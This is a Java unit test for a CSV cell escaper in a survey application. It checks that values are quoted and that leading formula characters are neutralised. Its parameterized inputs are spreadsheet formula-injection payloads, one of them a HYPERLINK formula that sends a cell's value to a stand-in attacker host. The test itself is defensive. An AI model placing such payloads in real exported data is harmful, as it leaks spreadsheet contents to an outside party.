package io.rapport.survey.adapter.in.rest;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {

  @Test
  void text_stays_text() {
    assertThat(CsvCell.of("")).isEqualTo("\"\"");
    assertThat(CsvCell.of("Quick, \"friendly\"\nand 100 % = fine"))
        .isEqualTo("\"Quick, \"\"friendly\"\"\nand 100 % = fine\"");
    assertThat(CsvCell.of("9")).isEqualTo("\"9\"");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "＝1+1",
        "=HYPERLINK(\"http://evil.example?\"&A1)"
      })
  void no_spreadsheet_takes_it_for_a_formula(String text) {
    assertThat(CsvCell.of(text)).startsWith("\"'").contains(text.replace("\"", "\"\""));
  }
}
